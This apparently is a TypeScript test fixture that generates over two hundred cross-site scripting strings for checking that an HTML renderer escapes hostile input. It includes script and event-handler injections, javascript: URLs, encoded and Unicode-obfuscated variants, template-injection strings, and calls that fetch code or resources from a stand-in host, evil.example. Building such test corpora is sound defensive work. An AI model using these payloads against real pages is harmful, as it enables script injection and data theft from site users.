/** Calls that a page must never make; test/html/browser.ts hears of them. */
const calls = [
  "pwned(1)",
  "alert(1)",
  "top.pwned(1)",
  "fetch('https://evil.example/x')",
  "import('https://evil.example/x.js')",
] as const

/** Texts that a careless page runs, loads or breaks at; `CALL` stands for a call. */
const templates = [
  ...["<script>CALL</script>", "</script><script>CALL</script>", "<ScRiPt>CALL</sCrIpT>"],
  ...["<script src=https://evil.example/x.js></script>", "</style><script>CALL</script>"],
  ...[
    "</title><script>CALL</script>",
    "</pre></code><script>CALL</script>",
    "<!--><script>CALL</script>-->",
  ],
  ...["--><script>CALL</script>", "--!><img src=x onerror=CALL>", "]]><script>CALL</script>"],
  ...["<img src=x onerror=CALL>", '"><img src=x onerror="CALL">', "'><img src=x onerror='CALL'>"],
  ...[
    "<svg onload=CALL>",
    "<svg><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x>",
  ],
  ...[
    "<svg><a href=javascript:CALL>x</a></svg>",
    "</svg><script>CALL</script>",
    "</text></a><script>CALL</script>",
  ],
  ...["<svg><foreignObject><iframe srcdoc='<script>CALL</script>'></foreignObject></svg>"],
  ...[
    "<svg><use href='data:image/svg+xml,<svg onload=CALL>'/></svg>",
    "<math><mtext><script>CALL</script>",
  ],
  ...[
    "<iframe src=javascript:CALL>",
    "<iframe srcdoc='<script>CALL</script>'>",
    "<object data=javascript:CALL>",
  ],
  ...[
    "<embed src=javascript:CALL>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  ],
  ...[
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
  ],
  ...[
    "<style>*{background:url(https://evil.example/x)}</style>",
    "</style><style>body{display:none}",
  ],
  ...[
    "<body onload=CALL>",
    "<details open ontoggle=CALL>",
    "<input autofocus onfocus=CALL>",
    "<video><source onerror=CALL>",
  ],
  ...[
    "<form action=https://evil.example><button>x",
    "<a href=javascript:CALL>x</a>",
    "<dialog open onclose=CALL>",
  ],
  ...[
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<template><script>CALL</script></template>",
  ],
  ...[
    '" onmouseover="CALL" x="',
    "' onmouseover='CALL' x='",
    "x onfocus=CALL autofocus tabindex=1 ",
  ],
  ...[
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "java\tscript:CALL",
    "data:text/html,<script>CALL</script>",
  ],
  ...[
    "${CALL}",
    "`${CALL}`",
    "{{constructor.constructor('CALL')()}}",
    "${{CALL}}",
    "<%= CALL %>",
    "#{CALL}",
  ],
  ...[
    "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
    "\\x3cscript\\x3eCALL",
    "&lt;script&gt;CALL&lt;/script&gt;",
  ],
  ...[
    "&#60;script&#62;CALL&#60;/script&#62;",
    "&colon;CALL",
    '"};CALL;//',
    "');CALL;//",
    "*/CALL/*",
  ],
  ...[
    "[x](javascript:CALL)",
    "![x](https://evil.example/i.png)",
    "click A CALL\ngraph TD; A-->B",
    "%%{init: {'x': 'CALL'}}%%",
  ],
  ...[
    "\u202e<script>CALL</script>",
    "\u2066<img src=x onerror=CALL>\u2069",
    "\u200b<scr\u200bipt>CALL",
    "\u0000<script>CALL</script>",
  ],
  ...[
    "<scr\u0000ipt>CALL</scr\u0000ipt>",
    "\ufeff<script>CALL</script>",
    "\ud800<script>CALL</script>",
    "<script\u2028>CALL</script>",
  ],
  ...[
    "\u001b]8;;https://evil.example\u0007x",
    "<plaintext>",
    "<xmp><script>CALL</script>",
    "<textarea><script>CALL</script>",
  ],
  ...[
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "#findings",
    'f1" class="view',
    "n0-0",
    "keys",
  ],
] as const

/** At least two hundred different texts. */
export const hostileTexts: readonly string[] = [
  ...new Set(
    calls.flatMap((call) => templates.map((template) => template.replaceAll("CALL", call))),
  ),
].slice(0, 210)
